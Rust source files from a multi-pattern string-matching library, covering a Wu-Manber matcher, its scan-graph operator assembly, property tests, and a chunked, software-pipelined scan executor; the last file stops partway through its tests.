    pub fn average_shift(&self) -> f64 {
        if self.core.m < B {
            return 0.0;
        }
        self.core.shift.iter().map(|&s| s as f64).sum::<f64>() / self.core.shift.len() as f64
    }

    /// The operator graph the scan path executes.
    pub fn graph(&self) -> &ScanGraph {
        &self.graph
    }

    /// The graph's chunking/overlap configuration.
    pub fn graph_config(&self) -> GraphConfig {
        self.graph.config()
    }

    /// Overrides the graph's chunking/overlap configuration (used by the
    /// benchmark harness and the differential tests for deterministic A/B
    /// runs without environment races).
    pub fn set_graph_config(&mut self, config: GraphConfig) {
        self.graph.set_config(config);
    }

    /// The pre-PR 9 interleaved scan (single-byte pass + shift walk with
    /// inline batched verification), kept as the differential oracle for
    /// the graph assembly.
    pub fn find_into_legacy(&self, haystack: &[u8], out: &mut Vec<MatchEvent>) {
        if self.core.has_one_byte {
            self.core
                .scan_one_byte_range(haystack, 0, haystack.len(), out);
        }
        // The candidate drain's window compares ride the backend resolved at
        // build time; the shift walk itself is scalar.
        match self.backend {
            BackendKind::Scalar => self.shift_scan_on::<ScalarBackend, 8>(haystack, out),
            BackendKind::Avx2 => self.shift_scan_on::<Avx2Backend, 8>(haystack, out),
            BackendKind::Avx512 => self.shift_scan_on::<Avx512Backend, 16>(haystack, out),
        }
    }

    /// The shift-table scan over patterns of length ≥ `B`, monomorphized per
    /// case mode (`FOLD = true` folds the input block values to match the
    /// folded tables) and per SIMD backend `S` (used only in the candidate
    /// drain; the shift walk itself is inherently scalar).
    ///
    /// Zero-shift candidates are **batched**: `(start, block value)` pairs
    /// are buffered — prefetching the bucket header the moment the candidate
    /// is found — and drained [`WM_BATCH`] at a time through
    /// [`WuManber::drain_candidates`], so the bucket walks of consecutive
    /// candidates overlap in the memory system instead of serialising.
    fn shift_scan<S: VectorBackend<W>, const W: usize, const FOLD: bool>(
        &self,
        haystack: &[u8],
        out: &mut Vec<MatchEvent>,
    ) {
        let core = &*self.core;
        let m = core.m;
        if m < B || haystack.len() < m {
            return;
        }
        let n = haystack.len();
        let mut pend_start = [0u32; WM_BATCH];
        let mut pend_value = [0u32; WM_BATCH];
        let mut pending = 0usize;
        // `pos` is the index of the last byte of the current m-byte window.
        let mut pos = m - 1;
        while pos < n {
            let value = block_value(
                fold_byte(haystack[pos - 1], FOLD),
                fold_byte(haystack[pos], FOLD),
            );
            let shift = core.shift[value] as usize;
            if shift > 0 {
                pos += shift;
                continue;
            }
            // Candidate window: buffer it and request its bucket now, so the
            // pattern-id list is resident by the time the drain walks it.
            prefetch_read(&core.buckets[value]);
            pend_start[pending] = (pos + 1 - m) as u32;
            pend_value[pending] = value as u32;
            pending += 1;
            if pending == WM_BATCH {
                core.drain_candidates::<S, W, FOLD>(haystack, &pend_start, &pend_value, out);
                pending = 0;
            }
            pos += 1;
        }
        core.drain_candidates::<S, W, FOLD>(
            haystack,
            &pend_start[..pending],
            &pend_value[..pending],
            out,
        );
    }

    /// Monomorphizes the legacy shift scan over the fold mode for one
    /// backend.
    fn shift_scan_on<S: VectorBackend<W>, const W: usize>(
        &self,
        haystack: &[u8],
        out: &mut Vec<MatchEvent>,
    ) {
        if self.core.folded {
            self.shift_scan::<S, W, true>(haystack, out);
        } else {
            self.shift_scan::<S, W, false>(haystack, out);
        }
    }
}

impl Matcher for WuManber {
    fn name(&self) -> &'static str {
        "Wu-Manber"
    }

    fn max_pattern_len(&self) -> usize {
        self.core
            .set
            .patterns()
            .iter()
            .map(|p| p.len())
            .max()
            .unwrap_or(0)
    }

    fn find_into(&self, haystack: &[u8], out: &mut Vec<MatchEvent>) {
        with_cached_scratchpad(|pad| self.graph.run(haystack, pad, out));
    }

    fn scan_with_stats(&self, haystack: &[u8]) -> mpm_patterns::MatcherStats {
        let mut out = Vec::new();
        let counters = with_cached_scratchpad(|pad| {
            self.graph.run(haystack, pad, &mut out);
            pad.counters
        });
        mpm_patterns::MatcherStats {
            bytes_scanned: haystack.len() as u64,
            candidates: counters.candidates,
            matches: out.len() as u64,
            filter_nanos: counters.filter_nanos,
            verify_nanos: counters.verify_nanos,
            ..mpm_patterns::MatcherStats::default()
        }
    }

    fn heap_bytes(&self) -> usize {
        let footprint = self.memory_footprint();
        footprint.total()
    }

    fn memory_footprint(&self) -> mpm_patterns::MemoryFootprint {
        mpm_patterns::MemoryFootprint {
            // The shift table is what the skip loop touches per position —
            // Wu-Manber's analogue of the filtering structures.
            filter_bytes: self.core.shift.len() * 2,
            // Candidate buckets + the pattern bytes they are compared to.
            verify_bytes: self
                .core
                .buckets
                .iter()
                .map(|b| b.len() * std::mem::size_of::<PatternId>())
                .sum::<usize>()
                + self
                    .core
                    .set
                    .patterns()
                    .iter()
                    .map(|p| p.len())
                    .sum::<usize>(),
            other_bytes: 0,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use mpm_patterns::naive::naive_find_all;

    #[test]
    fn classic_example_matches_naive() {
        let set = PatternSet::from_literals(&["announce", "annual", "annually"]);
        let wm = WuManber::build(&set);
        let hay = b"CPM_annual_conference announce the annually repeated event";
        assert_eq!(wm.find_all(hay), naive_find_all(&set, hay));
        // m = 6 ("annual"), so shifts can skip up to 5 bytes.
        assert_eq!(wm.window_len(), 6);
        assert!(wm.average_shift() > 4.0);
    }

    #[test]
    fn overlapping_and_repeated_matches() {
        let set = PatternSet::from_literals(&["abab", "baba", "ab"]);
        let wm = WuManber::build(&set);
        let hay = b"abababab";
        assert_eq!(wm.find_all(hay), naive_find_all(&set, hay));
    }

    #[test]
    fn one_byte_patterns_are_still_exact() {
        let set = PatternSet::from_literals(&["x", "longpattern", "yz"]);
        let wm = WuManber::build(&set);
        let hay = b"xx yz longpattern x";
        assert_eq!(wm.find_all(hay), naive_find_all(&set, hay));
    }

    #[test]
    fn short_patterns_ruin_shift_distances() {
        // The paper's argument: one 2-byte pattern caps every shift at 1.
        let long_only = WuManber::build(&PatternSet::from_literals(&[
            "wide-enough-pattern",
            "another-long-pattern",
        ]));
        let with_short = WuManber::build(&PatternSet::from_literals(&[
            "wide-enough-pattern",
            "another-long-pattern",
            "ab",
        ]));
        assert!(long_only.average_shift() > 5.0);
        assert!(with_short.average_shift() <= 1.0);
        assert_eq!(with_short.window_len(), 2);
    }

    #[test]
    fn nocase_patterns_are_found_in_any_case() {
        use mpm_patterns::Pattern;
        let set = PatternSet::new(vec![
            Pattern::literal_nocase(*b"AnnOunce"),
            Pattern::literal(*b"annual"),
            Pattern::literal_nocase(*b"x"),
            Pattern::literal_nocase(*b"aB"),
        ]);
        let wm = WuManber::build(&set);
        assert!(wm.is_folded());
        let hay = b"ANNOUNCE announce ANNUAL annual X x AB ab Ab aB";
        assert_eq!(wm.find_all(hay), naive_find_all(&set, hay));
    }

    #[test]
    fn case_sensitive_only_sets_stay_unfolded() {
        let set = PatternSet::from_literals(&["AnnOunce", "annual"]);
        let wm = WuManber::build(&set);
        assert!(!wm.is_folded());
        let hay = b"ANNOUNCE AnnOunce annual ANNUAL";
        assert_eq!(wm.find_all(hay), naive_find_all(&set, hay));
    }

    #[test]
    fn nocase_single_byte_registers_both_case_variants() {
        use mpm_patterns::Pattern;
        let set = PatternSet::new(vec![
            Pattern::literal_nocase(*b"q"),
            Pattern::literal(*b"q"),
            Pattern::literal_nocase(*b"7"),
        ]);
        let wm = WuManber::build(&set);
        let hay = b"Q q 7";
        assert_eq!(wm.find_all(hay), naive_find_all(&set, hay));
    }

    #[test]
    fn empty_input_and_input_shorter_than_window() {
        let set = PatternSet::from_literals(&["abcdef"]);
        let wm = WuManber::build(&set);
        assert!(wm.find_all(b"").is_empty());
        assert!(wm.find_all(b"abc").is_empty());
        assert_eq!(wm.find_all(b"abcdef").len(), 1);
    }

    #[test]
    fn binary_patterns_and_prefix_collisions() {
        let set = PatternSet::from_literals(&[
            &[0x00u8, 0x01, 0x02, 0x03][..],
            &[0xff, 0xfe, 0x00, 0x01][..],
            b"attack",
            b"attach",
        ]);
        let wm = WuManber::build(&set);
        let mut hay = b"attack attach atta".to_vec();
        hay.extend_from_slice(&[0x00, 0x01, 0x02, 0x03, 0xff, 0xfe, 0x00, 0x01]);
        assert_eq!(wm.find_all(&hay), naive_find_all(&set, &hay));
    }
}
