//! Wu-Manber as a **scan-graph assembly**.
//!
//! Three operators replace the historical interleaved scan:
//!
//! * `wm:one-byte` (filter stage) — the dedicated single-byte pass. Its
//!   matches are exact without verification, so they go to the
//!   scratchpad's banked event buffer and the executor merges them into
//!   the output at the chunk's drain point (keeping the overlapped and
//!   sequential schedules byte-identical).
//! * `wm:shift` (filter stage) — the shift-table walk, buffering the
//!   zero-shift candidate windows as `(window start, block value)` pairs
//!   into a slot pair instead of verifying them inline.
//! * `wm:verify` (verify stage) — drains the candidate pairs through the
//!   bucket walk with the backend's vector window comparison, prefetching
//!   [`WM_PREFETCH`](crate) candidates ahead.
//!
//! The walk restarts at every chunk boundary; the shift invariant makes
//! that safe (see [`WmCore::shift_walk_range`]), so chunking — and with
//! it streaming and the double-banked overlap schedule — comes for free.

use std::marker::PhantomData;
use std::sync::Arc;

use mpm_graph::{Chunk, GraphBuilder, GraphConfig, ScanGraph, ScanOp, Scratchpad, SlotId, Stage};
use mpm_patterns::MatchEvent;
use mpm_simd::{prefetch_read, VectorBackend};

use crate::WmCore;

/// How many leading candidates the prime hook prefetches bucket storage
/// for while the next chunk is still being filtered.
const PRIME_CANDIDATES: usize = 64;

/// The slot pair all Wu-Manber assemblies allocate: candidate window
/// starts (counted — each zero-shift window is one candidate) and their
/// block values (uncounted, parallel to `starts`).
#[derive(Clone, Copy)]
pub(crate) struct WmSlots {
    starts: SlotId,
    values: SlotId,
}

/// Filter-stage operator: the exact single-byte pass.
struct WmOneByteOp {
    core: Arc<WmCore>,
}

impl ScanOp for WmOneByteOp {
    fn name(&self) -> &'static str {
        "wm:one-byte"
    }

    fn stage(&self) -> Stage {
        Stage::Filter
    }

    fn execute(&self, chunk: Chunk<'_>, pad: &mut Scratchpad, _out: &mut Vec<MatchEvent>) {
        self.core
            .scan_one_byte_range(chunk.haystack, chunk.start, chunk.end, pad.events_mut());
    }
}

/// Filter-stage operator: the shift-table walk.
struct WmShiftFilterOp {
    core: Arc<WmCore>,
    slots: WmSlots,
}

impl ScanOp for WmShiftFilterOp {
    fn name(&self) -> &'static str {
        "wm:shift"
    }

    fn stage(&self) -> Stage {
        Stage::Filter
    }

    fn init(&self, batch: usize, pad: &mut Scratchpad) {
        pad.reserve_slot(self.slots.starts, batch / 32 + 16);
        pad.reserve_slot(self.slots.values, batch / 32 + 16);
    }

    fn execute(&self, chunk: Chunk<'_>, pad: &mut Scratchpad, _out: &mut Vec<MatchEvent>) {
        let mut starts = pad.take_write(self.slots.starts);
        let mut values = pad.take_write(self.slots.values);
        if self.core.folded {
            self.core.shift_walk_range::<true>(
                chunk.haystack,
                chunk.start,
                chunk.end,
                &mut starts,
                &mut values,
            );
        } else {
            self.core.shift_walk_range::<false>(
                chunk.haystack,
                chunk.start,
                chunk.end,
                &mut starts,
                &mut values,
            );
        }
        pad.put_write(self.slots.starts, starts);
        pad.put_write(self.slots.values, values);
    }
}

/// Verify-stage operator: the bucket walk over the buffered candidates.
struct WmVerifyOp<S: VectorBackend<W>, const W: usize> {
    core: Arc<WmCore>,
    slots: WmSlots,
    _backend: PhantomData<fn() -> S>,
}

impl<S: VectorBackend<W>, const W: usize> ScanOp for WmVerifyOp<S, W> {
    fn name(&self) -> &'static str {
        "wm:verify"
    }

    fn stage(&self) -> Stage {
        Stage::Verify
    }

    fn execute(&self, chunk: Chunk<'_>, pad: &mut Scratchpad, out: &mut Vec<MatchEvent>) {
        let starts = pad.take_read(self.slots.starts);
        let values = pad.take_read(self.slots.values);
        if self.core.folded {
            self.core
                .drain_candidates::<S, W, true>(chunk.haystack, &starts, &values, out);
        } else {
            self.core
                .drain_candidates::<S, W, false>(chunk.haystack, &starts, &values, out);
        }
        pad.put_read(self.slots.starts, starts);
        pad.put_read(self.slots.values, values);
    }

    fn prime(&self, _chunk: Chunk<'_>, pad: &Scratchpad) {
        for &value in pad.read(self.slots.values).iter().take(PRIME_CANDIDATES) {
            prefetch_read(self.core.buckets[value as usize].as_ptr());
        }
    }
}

/// Assembles the Wu-Manber graph for one SIMD backend. The single-byte op
/// is only added when the set has single-byte patterns, so the common
/// (all-patterns ≥ 2 bytes) case pays nothing for the extra pass.
pub(crate) fn build_wm_graph<S: VectorBackend<W>, const W: usize>(core: &Arc<WmCore>) -> ScanGraph {
    let mut b = GraphBuilder::new();
    let slots = WmSlots {
        starts: b.slot(true),
        values: b.slot(false),
    };
    b.config(GraphConfig::from_env());
    if core.has_one_byte {
        b.op(Arc::new(WmOneByteOp { core: core.clone() }));
    }
    b.op(Arc::new(WmShiftFilterOp {
        core: core.clone(),
        slots,
    }));
    b.op(Arc::new(WmVerifyOp::<S, W> {
        core: core.clone(),
        slots,
        _backend: PhantomData,
    }));
    b.build()
}

#[cfg(test)]
mod tests {
    use crate::WuManber;
    use mpm_graph::GraphConfig;
    use mpm_patterns::{MatchEvent, Matcher, PatternSet};

    fn sorted(mut v: Vec<MatchEvent>) -> Vec<MatchEvent> {
        v.sort_unstable_by_key(|m| (m.start, m.pattern.0));
        v
    }

    #[test]
    fn graph_matches_legacy_across_chunkings_and_overlap() {
        let set = PatternSet::from_literals(&["announce", "annual", "annually", "x", "ab"]);
        let hay: Vec<u8> = b"announce the annual xx event annually ab "
            .iter()
            .cycle()
            .take(4096 + 29)
            .copied()
            .collect();

        let wm = WuManber::build(&set);
        let mut legacy = Vec::new();
        wm.find_into_legacy(&hay, &mut legacy);
        let legacy = sorted(legacy);

        for chunk in [64usize, 512, 1 << 16] {
            for overlap in [false, true] {
                let mut w = WuManber::build(&set);
                w.set_graph_config(GraphConfig { chunk, overlap }.normalize());
                assert_eq!(
                    sorted(w.find_all(&hay)),
                    legacy,
                    "chunk={chunk} overlap={overlap}"
                );
                let stats = w.scan_with_stats(&hay);
                assert_eq!(stats.matches as usize, legacy.len());
                assert!(stats.candidates > 0);
            }
        }
    }
}
