//! Property tests: Wu-Manber agrees with the naive reference and the
//! Aho-Corasick baseline on arbitrary pattern sets and inputs.

use mpm_aho_corasick::DfaMatcher;
use mpm_patterns::{naive::naive_find_all, Matcher, Pattern, PatternSet};
use mpm_wu_manber::WuManber;
use proptest::prelude::*;

fn bytes_strategy(max_len: usize) -> impl Strategy<Value = Vec<u8>> {
    proptest::collection::vec(
        prop_oneof![Just(b'a'), Just(b'b'), Just(b'c'), Just(0u8), any::<u8>()],
        1..max_len,
    )
}

fn pattern_set_strategy() -> impl Strategy<Value = PatternSet> {
    proptest::collection::vec(bytes_strategy(9), 1..12)
        .prop_map(|ps| PatternSet::new(ps.into_iter().map(Pattern::literal).collect()))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    #[test]
    fn wu_manber_equals_naive_and_ac(set in pattern_set_strategy(), hay in bytes_strategy(400)) {
        let expected = naive_find_all(&set, &hay);
        prop_assert_eq!(WuManber::build(&set).find_all(&hay), expected.clone());
        prop_assert_eq!(DfaMatcher::build(&set).find_all(&hay), expected);
    }

    #[test]
    fn count_is_consistent(set in pattern_set_strategy(), hay in bytes_strategy(300)) {
        let wm = WuManber::build(&set);
        prop_assert_eq!(wm.count(&hay), wm.find_all(&hay).len() as u64);
    }
}
