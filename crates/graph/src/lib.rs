//! Operator-style scan graph with cross-chunk software pipelining.
//!
//! The paper's engines all share one shape — a *filter* pass that turns the
//! haystack into candidate position arrays, followed by a *verify* pass that
//! confirms candidates against exact pattern tables — but until this crate
//! each engine re-implemented the chunking, statistics, and buffer-reuse
//! plumbing around that shape. Here the shape is reified (in the spirit of
//! LocustDB's `VecOperator`/`Scratchpad` design):
//!
//! * [`ScanOp`] — a composable batch operator (a filter kernel, a candidate
//!   drain, a verifier) executing over one [`Chunk`] of the haystack;
//! * [`Scratchpad`] — typed, reusable `u32` buffer slots (candidate arrays)
//!   plus match-event buffers and [`StageCounters`], double-banked so two
//!   chunks can be in flight at once;
//! * [`ScanGraph`] — an assembly of operators plus a [`GraphConfig`], with
//!   two execution schedules:
//!   * **sequential** (`overlap = false`): per chunk, run every filter op,
//!     then every verify op — the classical per-chunk pipeline;
//!   * **overlapped** (`overlap = true`): software-pipelined across chunks —
//!     the filter ops run on chunk *k* while the verify ops drain chunk
//!     *k − 1*'s candidates from the other scratchpad bank, with a
//!     [`ScanOp::prime`] prefetch hook issued before the filter so the
//!     verifier's leading table loads are in flight during the
//!     compute-bound filter.
//!
//! Both schedules produce **byte-identical output** (same events, same
//! order): filter-stage operators emit their matches into the scratchpad's
//! banked event buffer rather than straight into the output, and the
//! executor drains that buffer immediately before the corresponding verify
//! pass in both modes.
//!
//! The engine crates (`mpm-vpatch`, `mpm-dfc`, `mpm-wu-manber`) assemble
//! their scan paths from these pieces; see DEVELOPMENT.md § "Scan graph"
//! for the operator contract and the add-an-engine recipe.

#![warn(missing_docs)]

mod exec;
mod scratchpad;

pub use exec::{GraphBuilder, ScanGraph};
pub use scratchpad::{with_cached_scratchpad, Scratchpad, SlotId, SlotSpec, StageCounters};

use mpm_patterns::MatchEvent;

/// Default executor chunk: 64 KiB. A multiple of every backend's double-block
/// stride (2 × 16 lanes), so the vector filter kernels tile chunk interiors
/// exactly as they tile a whole haystack — the property the scan-graph
/// differential suite relies on for counter parity with the legacy paths.
pub const DEFAULT_CHUNK: usize = 1 << 16;

/// Chunk sizes must stay a multiple of this (the widest backend's unrolled
/// stride, 2 × 16 lanes) so vector block boundaries never move relative to
/// the monolithic scan.
pub const CHUNK_ALIGN: usize = 32;

/// Which executor stage an operator belongs to.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Stage {
    /// Producers: scan a haystack range, append candidate positions to
    /// write-bank slots (and any direct matches to the banked event buffer).
    Filter,
    /// Consumers: drain read-bank candidate slots through the exact
    /// verifiers, appending confirmed matches to the output.
    Verify,
}

/// One haystack range handed to the operators. The full haystack is always
/// visible — windows and verifications may read past `end` (across the chunk
/// seam) — but a filter op only *originates* candidates at positions in
/// `start..end`.
#[derive(Clone, Copy, Debug)]
pub struct Chunk<'a> {
    /// The complete input being scanned.
    pub haystack: &'a [u8],
    /// First position this chunk owns.
    pub start: usize,
    /// One past the last position this chunk owns.
    pub end: usize,
    /// True for the final chunk: tail positions (e.g. the last byte's
    /// short-pattern candidate) belong to whichever op handles them.
    pub is_last: bool,
}

impl Chunk<'_> {
    /// Number of positions the chunk owns.
    pub fn len(&self) -> usize {
        self.end - self.start
    }

    /// True when the chunk owns no positions.
    pub fn is_empty(&self) -> bool {
        self.start == self.end
    }
}

/// Execution parameters of a [`ScanGraph`].
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct GraphConfig {
    /// Bytes per executor chunk (rounded up to [`CHUNK_ALIGN`]).
    pub chunk: usize,
    /// Software-pipeline across chunks: filter chunk *k* while verifying
    /// chunk *k − 1* from the other scratchpad bank.
    pub overlap: bool,
}

impl Default for GraphConfig {
    fn default() -> Self {
        GraphConfig {
            chunk: DEFAULT_CHUNK,
            overlap: true,
        }
    }
}

impl GraphConfig {
    /// The default configuration with environment overrides applied:
    /// `MPM_GRAPH_OVERLAP=0|off|false` disables cross-chunk pipelining and
    /// `MPM_GRAPH_CHUNK=<bytes>` resizes the executor chunk — the same
    /// zero-code A/B switch style as `MPM_FORCE_BACKEND`. Engines read this
    /// once at build time.
    pub fn from_env() -> Self {
        let mut cfg = GraphConfig::default();
        if let Ok(v) = std::env::var("MPM_GRAPH_OVERLAP") {
            cfg.overlap = !matches!(
                v.to_ascii_lowercase().as_str(),
                "0" | "off" | "false" | "no"
            );
        }
        if let Ok(v) = std::env::var("MPM_GRAPH_CHUNK") {
            if let Ok(bytes) = v.parse::<usize>() {
                cfg.chunk = bytes;
            }
        }
        cfg.normalize()
    }

    /// Clamps the chunk size to a sane, aligned value (at least one aligned
    /// stride, rounded up to [`CHUNK_ALIGN`]).
    pub fn normalize(mut self) -> Self {
        self.chunk = self.chunk.max(CHUNK_ALIGN).next_multiple_of(CHUNK_ALIGN);
        self
    }
}

/// A composable batch operator over one scratchpad.
///
/// Contract (see DEVELOPMENT.md § "Scan graph" for the long form):
///
/// * [`ScanOp::init`] runs once per scan before the first chunk; reserve
///   slot capacity here (both banks — the executor double-buffers).
/// * [`ScanOp::execute`] for a [`Stage::Filter`] op reads
///   `chunk.haystack[chunk.start..chunk.end]` (windows may peek past `end`),
///   appends candidate positions to *write-bank* slots and any directly
///   confirmed matches to [`Scratchpad::events_mut`] — never to `out`.
/// * [`ScanOp::execute`] for a [`Stage::Verify`] op drains *read-bank*
///   slots and appends confirmed matches to `out`.
/// * [`ScanOp::prime`] (verify ops only) issues best-effort prefetches for
///   the chunk it is *about* to verify; it must not mutate anything. The
///   overlapped schedule calls it before running the filter ops on the next
///   chunk so the verifier's first table rows arrive during filtering.
pub trait ScanOp: Send + Sync {
    /// Operator name for debugging / graph dumps.
    fn name(&self) -> &'static str;

    /// The executor stage this operator runs in.
    fn stage(&self) -> Stage;

    /// Once-per-scan capacity setup; `batch` is the executor chunk size.
    fn init(&self, batch: usize, pad: &mut Scratchpad) {
        let _ = (batch, pad);
    }

    /// Executes the operator over one chunk. See the trait docs for the
    /// per-stage slot/output contract.
    fn execute(&self, chunk: Chunk<'_>, pad: &mut Scratchpad, out: &mut Vec<MatchEvent>);

    /// Best-effort prefetch for the chunk this (verify) op will drain next.
    fn prime(&self, chunk: Chunk<'_>, pad: &Scratchpad) {
        let _ = (chunk, pad);
    }
}
