//! Graph assembly and the two execution schedules (sequential and
//! cross-chunk overlapped).

use std::fmt;
use std::sync::Arc;
use std::time::Instant;

use mpm_patterns::MatchEvent;

use crate::scratchpad::{Scratchpad, SlotId, SlotSpec};
use crate::{Chunk, GraphConfig, ScanOp, Stage};

/// Builds a [`ScanGraph`]: allocate slots, register operators, pick a
/// config.
///
/// ```
/// use mpm_graph::{GraphBuilder, GraphConfig};
/// let mut b = GraphBuilder::new();
/// let _candidates = b.slot(true);
/// let graph = b.config(GraphConfig::default()).build();
/// assert_eq!(graph.config().chunk, mpm_graph::DEFAULT_CHUNK);
/// ```
#[derive(Default)]
pub struct GraphBuilder {
    slots: Vec<SlotSpec>,
    ops: Vec<Arc<dyn ScanOp>>,
    config: GraphConfig,
}

impl GraphBuilder {
    /// An empty builder with the default [`GraphConfig`].
    pub fn new() -> Self {
        GraphBuilder {
            slots: Vec::new(),
            ops: Vec::new(),
            config: GraphConfig::default(),
        }
    }

    /// Allocates a scratchpad slot; `counted` slots contribute their
    /// filter-stage lengths to [`StageCounters::candidates`]
    /// (see [`SlotSpec`]).
    ///
    /// [`StageCounters::candidates`]: crate::StageCounters::candidates
    pub fn slot(&mut self, counted: bool) -> SlotId {
        self.slots.push(SlotSpec { counted });
        SlotId(self.slots.len() - 1)
    }

    /// Registers an operator. Execution order within a stage is
    /// registration order.
    pub fn op(&mut self, op: Arc<dyn ScanOp>) -> &mut Self {
        self.ops.push(op);
        self
    }

    /// Sets the execution parameters (normalized; see
    /// [`GraphConfig::normalize`]).
    pub fn config(&mut self, config: GraphConfig) -> &mut Self {
        self.config = config.normalize();
        self
    }

    /// Finalizes the assembly.
    pub fn build(&mut self) -> ScanGraph {
        let ops = std::mem::take(&mut self.ops);
        ScanGraph {
            filter_ops: ops
                .iter()
                .filter(|o| o.stage() == Stage::Filter)
                .cloned()
                .collect(),
            verify_ops: ops
                .iter()
                .filter(|o| o.stage() == Stage::Verify)
                .cloned()
                .collect(),
            slots: std::mem::take(&mut self.slots).into(),
            config: self.config,
        }
    }
}

/// An executable assembly of scan operators. Cheap to clone (operators are
/// shared), cheap to re-run (buffers live in the caller's [`Scratchpad`]).
#[derive(Clone)]
pub struct ScanGraph {
    filter_ops: Vec<Arc<dyn ScanOp>>,
    verify_ops: Vec<Arc<dyn ScanOp>>,
    slots: Arc<[SlotSpec]>,
    config: GraphConfig,
}

impl fmt::Debug for ScanGraph {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("ScanGraph")
            .field(
                "filter_ops",
                &self.filter_ops.iter().map(|o| o.name()).collect::<Vec<_>>(),
            )
            .field(
                "verify_ops",
                &self.verify_ops.iter().map(|o| o.name()).collect::<Vec<_>>(),
            )
            .field("slots", &self.slots.len())
            .field("config", &self.config)
            .finish()
    }
}

impl ScanGraph {
    /// The execution parameters.
    pub fn config(&self) -> GraphConfig {
        self.config
    }

    /// Replaces the execution parameters (normalized). Engines expose this
    /// for the overlap on/off A/B harnesses.
    pub fn set_config(&mut self, config: GraphConfig) {
        self.config = config.normalize();
    }

    /// Operator names in execution order (filter stage, then verify stage).
    pub fn op_names(&self) -> Vec<&'static str> {
        self.filter_ops
            .iter()
            .chain(&self.verify_ops)
            .map(|o| o.name())
            .collect()
    }

    /// Executes the graph over `haystack`, appending matches to `out` and
    /// accumulating counters in `pad.counters` (which this call resets).
    /// The sequential and overlapped schedules produce identical output.
    pub fn run(&self, haystack: &[u8], pad: &mut Scratchpad, out: &mut Vec<MatchEvent>) {
        pad.configure(&self.slots);
        pad.reset();
        let n = haystack.len();
        if n == 0 {
            return;
        }
        assert!(
            n < u32::MAX as usize,
            "haystack too large for u32 candidate positions"
        );
        let chunk_size = self.config.chunk;
        let nchunks = n.div_ceil(chunk_size);
        for op in self.filter_ops.iter().chain(&self.verify_ops) {
            op.init(chunk_size.min(n), pad);
        }
        let chunk_at = |k: usize| Chunk {
            haystack,
            start: k * chunk_size,
            end: ((k + 1) * chunk_size).min(n),
            is_last: k + 1 == nchunks,
        };
        if self.config.overlap && nchunks > 1 {
            self.run_overlapped(pad, out, nchunks, &chunk_at);
        } else {
            self.run_sequential(pad, out, nchunks, &chunk_at);
        }
    }

    /// Classical schedule: filter then verify, chunk by chunk, single bank.
    fn run_sequential<'a>(
        &self,
        pad: &mut Scratchpad,
        out: &mut Vec<MatchEvent>,
        nchunks: usize,
        chunk_at: &dyn Fn(usize) -> Chunk<'a>,
    ) {
        for k in 0..nchunks {
            let chunk = chunk_at(k);
            self.filter_pass(chunk, pad, out, 0);
            pad.set_read_bank(0);
            pad.drain_read_events(out);
            self.verify_pass(chunk, pad, out, false);
        }
    }

    /// Software-pipelined schedule: while the verify ops drain chunk
    /// *k − 1* from one bank, the filter ops fill the other bank with chunk
    /// *k*'s candidates. [`ScanOp::prime`] runs before the filter so the
    /// verifier's leading table loads overlap the filter's compute.
    fn run_overlapped<'a>(
        &self,
        pad: &mut Scratchpad,
        out: &mut Vec<MatchEvent>,
        nchunks: usize,
        chunk_at: &dyn Fn(usize) -> Chunk<'a>,
    ) {
        self.filter_pass(chunk_at(0), pad, out, 0);
        for k in 1..nchunks {
            let prev = chunk_at(k - 1);
            pad.set_read_bank((k - 1) % 2);
            self.prime_pass(prev, pad);
            self.filter_pass(chunk_at(k), pad, out, k % 2);
            pad.drain_read_events(out);
            self.verify_pass(prev, pad, out, false);
        }
        let last = chunk_at(nchunks - 1);
        pad.set_read_bank((nchunks - 1) % 2);
        pad.drain_read_events(out);
        self.verify_pass(last, pad, out, true);
    }

    fn filter_pass(
        &self,
        chunk: Chunk<'_>,
        pad: &mut Scratchpad,
        out: &mut Vec<MatchEvent>,
        bank: usize,
    ) {
        pad.begin_write_bank(bank);
        let t = Instant::now();
        for op in &self.filter_ops {
            op.execute(chunk, pad, out);
        }
        pad.counters.filter_nanos += t.elapsed().as_nanos() as u64;
        pad.accumulate_candidates();
    }

    fn verify_pass(
        &self,
        chunk: Chunk<'_>,
        pad: &mut Scratchpad,
        out: &mut Vec<MatchEvent>,
        prime_first: bool,
    ) {
        if prime_first {
            self.prime_pass(chunk, pad);
        }
        let t = Instant::now();
        for op in &self.verify_ops {
            op.execute(chunk, pad, out);
        }
        pad.counters.verify_nanos += t.elapsed().as_nanos() as u64;
    }

    fn prime_pass(&self, chunk: Chunk<'_>, pad: &Scratchpad) {
        for op in &self.verify_ops {
            op.prime(chunk, pad);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{with_cached_scratchpad, Stage};

    /// Filter op: records every position whose byte equals `target` into a
    /// slot, and (to exercise event banking) directly emits an event for
    /// positions of byte b'!'.
    struct ByteFilter {
        target: u8,
        slot: SlotId,
    }

    impl ScanOp for ByteFilter {
        fn name(&self) -> &'static str {
            "test:byte-filter"
        }
        fn stage(&self) -> Stage {
            Stage::Filter
        }
        fn init(&self, batch: usize, pad: &mut Scratchpad) {
            pad.reserve_slot(self.slot, batch);
        }
        fn execute(&self, chunk: Chunk<'_>, pad: &mut Scratchpad, _out: &mut Vec<MatchEvent>) {
            for i in chunk.start..chunk.end {
                if chunk.haystack[i] == self.target {
                    pad.write(self.slot).push(i as u32);
                }
                if chunk.haystack[i] == b'!' {
                    pad.events_mut()
                        .push(MatchEvent::new(i, mpm_patterns::PatternId(7)));
                }
            }
        }
    }

    /// Verify op: "confirms" candidates whose position is even.
    struct EvenVerify {
        slot: SlotId,
        primed: std::sync::atomic::AtomicUsize,
    }

    impl ScanOp for EvenVerify {
        fn name(&self) -> &'static str {
            "test:even-verify"
        }
        fn stage(&self) -> Stage {
            Stage::Verify
        }
        fn execute(&self, _chunk: Chunk<'_>, pad: &mut Scratchpad, out: &mut Vec<MatchEvent>) {
            let cands = pad.take_read(self.slot);
            for &pos in &cands {
                pad.counters.comparisons += 1;
                if pos % 2 == 0 {
                    out.push(MatchEvent::new(pos as usize, mpm_patterns::PatternId(1)));
                }
            }
            pad.put_read(self.slot, cands);
        }
        fn prime(&self, _chunk: Chunk<'_>, _pad: &Scratchpad) {
            self.primed
                .fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        }
    }

